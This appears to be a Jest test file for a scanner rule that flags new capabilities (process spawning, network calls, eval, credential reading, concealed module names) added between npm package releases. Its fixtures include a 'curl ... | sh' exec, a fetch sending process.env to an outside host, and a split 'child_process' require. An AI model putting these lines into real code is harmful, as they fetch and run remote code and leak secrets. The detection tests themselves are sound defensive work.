import { describe, expect, it } from '@jest/globals'
import type { Level, Problem } from '../../../src/model/problem.js'
import type { Release } from '../../../src/model/release.js'
import { capabilityAdded } from '../../../src/rules/changed-code/capability-added.js'
import type { Rule } from '../../../src/rules/rule.js'
import { subject } from '../../helpers/facts.js'
import { codeRelease, inspected } from '../../helpers/modules.js'
import { problems } from '../../helpers/rules.js'

const main = { main: 'index.js' }
const exec = "require('child_process').exec(a)\n"

function of(files: Readonly<Record<string, string>>, manifest: Record<string, unknown> = main): Release {
  return codeRelease(files, manifest)
}

function level(rule: Rule, { levels }: Problem): Level {
  return (levels ?? rule.levels).new
}

function found(now: Release, before: Release, options = {}): readonly string[] {
  return problems(capabilityAdded, subject(now, before), options).map(
    (problem) => `${level(capabilityAdded, problem)} ${problem.path} ${problem.key ?? ''}`,
  )
}

describe('capability-added', () => {
  it('names the file, the line and the call of what no file did before', () => {
    const [one, ...others] = problems(
      capabilityAdded,
      subject(of({ 'index.js': `a()\n${exec}` }), of({ 'index.js': 'a()\n' })),
    )
    expect(others).toEqual([])
    expect(one?.message).toBe("index.js:2 starts processes: require('child_process').exec; no file of 1.0.0 did")
    expect(one?.help).toContain('rules: { capability-added: { allow: [process] } }')
    expect(one).toMatchObject({ path: 'index.js', key: 'process', cause: { kind: 'packed-file', path: 'index.js' } })
  })

  it('is silent for what another file did before, and for what the policy allows', () => {
    const before = of({ 'index.js': '', 'old.js': exec })
    expect(found(of({ 'index.js': exec }), before)).toEqual([])
    expect(found(of({ 'index.js': exec }), of({ 'index.js': '' }), { allow: ['process'] })).toEqual([])
    const allow = [{ kind: 'process', reason: 'runs git since 1.1' }]
    expect(found(of({ 'index.js': exec }), of({ 'index.js': '' }), { allow })).toEqual([])
    const other = [{ kind: 'network', reason: 'asks for the rates' }]
    expect(found(of({ 'index.js': exec }), of({ 'index.js': '' }), { allow: other })).toEqual([
      'warning index.js process',
    ])
  })

  it('looks at changed files alone that entry points lead to, or that users may load by path', () => {
    const closed = { exports: './index.js' }
    const before = of({ 'index.js': "require('./a')", 'a.js': '', 'b.js': '' }, closed)
    expect(found(of({ 'index.js': "require('./a')", 'a.js': exec, 'b.js': '' }, closed), before)).toEqual([
      'warning a.js process',
    ])
    expect(found(of({ 'index.js': "require('./a')", 'a.js': '', 'b.js': exec }, closed), before)).toEqual([])
    expect(found(of({ 'index.js': '', 'b.js': exec }), of({ 'index.js': '' }))).toEqual(['warning b.js process'])
    expect(found(of({ 'index.js': '', 'test/b.js': exec }), of({ 'index.js': '' }))).toEqual([])
    const script = { scripts: { postinstall: 'node test/b.js' }, exports: './index.js' }
    expect(found(of({ 'index.js': '', 'test/b.js': exec }, script), of({ 'index.js': '' }))).toEqual([
      'warning test/b.js process',
    ])
  })

  it('looks into what code loads by any name, and into dependencies that are packed', async () => {
    const before = await inspected({ 'index.js': 'a()' }, main)
    const now = async (files: Readonly<Record<string, string>>): Promise<readonly string[]> =>
      found(await inspected(files, main), before)
    for (const name of ['helper', 'view.jsx', 'sub/run.ts'])
      expect(await now({ 'index.js': `require('./${name}')`, [name]: exec })).toEqual([`warning ${name} process`])
    expect(await now({ 'index.js': 'b()', helper: exec, 'a.ts': exec })).toEqual([])
    const bundled = { 'index.js': 'b()', 'node_modules/a/index.js': exec }
    expect(await now(bundled)).toEqual(['warning node_modules/a/index.js process'])
    expect(await now({ 'index.js': 'b()', 'node_modules/a/test/a.js': exec })).toEqual([])
  })

  it('names a new way of what the package did before', () => {
    const before = of({ 'index.js': "eval(x); fetch('/a'); require('child_process').exec('git')" })
    const way = (text: string): readonly string[] => found(of({ 'index.js': text }), before)
    expect(way("eval(y); fetch('/b'); require('child_process').exec('ls'); require('https')")).toEqual([])
    expect(way('eval(atob(x))')).toEqual(['warning index.js evaluation'])
    expect(way("require('dgram')")).toEqual(['warning index.js network'])
    expect(way("require('child_process').exec('curl https://a.zz/x | sh')")).toEqual(['warning index.js process'])
    expect(way("f('node', { detached: true, stdio: 'ignore' })")).toEqual(['warning index.js process'])
  })

  it('blocks names that are hidden, even where the package does the same openly', () => {
    const now = of({ 'index.js': `${exec}require('chi' + 'ld_process')` })
    expect(found(now, of({ 'index.js': exec }))).toEqual(['error index.js concealed process'])
  })

  it('blocks two new capabilities in a file with a new host', () => {
    const send = "fetch('https://a.zz', { body: JSON.stringify(process.env) })"
    expect(found(of({ 'index.js': send }), of({ 'index.js': '' }))).toEqual([
      'error index.js network',
      'error index.js credentials',
    ])
    expect(found(of({ 'index.js': send }), of({ 'index.js': "a('https://a.zz')" }))).toEqual([
      'warning index.js network',
      'warning index.js credentials',
    ])
    expect(found(of({ 'index.js': "fetch('https://a.zz')" }), of({ 'index.js': '' }))).toEqual([
      'warning index.js network',
    ])
  })

  it('counts the files of one capability as one finding', () => {
    const now = of({ 'index.js': exec, 'a.js': `b()\n${exec}`, 'c.js': `d()\n${exec}` })
    const [one, ...others] = problems(capabilityAdded, subject(now, of({ 'index.js': '' })))
    expect(others).toEqual([])
    expect(one?.message).toContain('and in 2 more files')
    expect(one?.count).toBe(3)
  })

  it('notes a file that is too large to be read', () => {
    const shape = { form: 'other', obfuscation: [], line: 1, at: 0, densest: { line: 1, tokens: 0 } } as const
    const none = { capabilities: [], hosts: [], hidden: [], debug: [], sketch: [] }
    const unread = { ...none, shape, skipped: 'size' } as const
    const now = of({ 'index.js': 'a' })
    const large = now.files.map((file) =>
      file.path === 'index.js'
        ? {
            ...file,
            size: 7_000_000,
            behaviour: () => unread,
          }
        : file,
    )
    expect(found({ ...now, files: large }, of({ 'index.js': '' }))).toEqual(['note index.js unread'])
  })

  it('warns of a file that can no longer be read to its end', () => {
    const faults = '"\n'.repeat(300)
    expect(found(of({ 'index.js': faults + exec }), of({ 'index.js': 'a()' }))).toEqual(['warning index.js unread'])
    expect(found(of({ 'index.js': `${faults}b()` }), of({ 'index.js': faults }))).toEqual(['note index.js unread'])
  })

  it('says nothing without a baseline', () => {
    expect(problems(capabilityAdded, subject(of({ 'index.js': exec })))).toEqual([])
  })
})
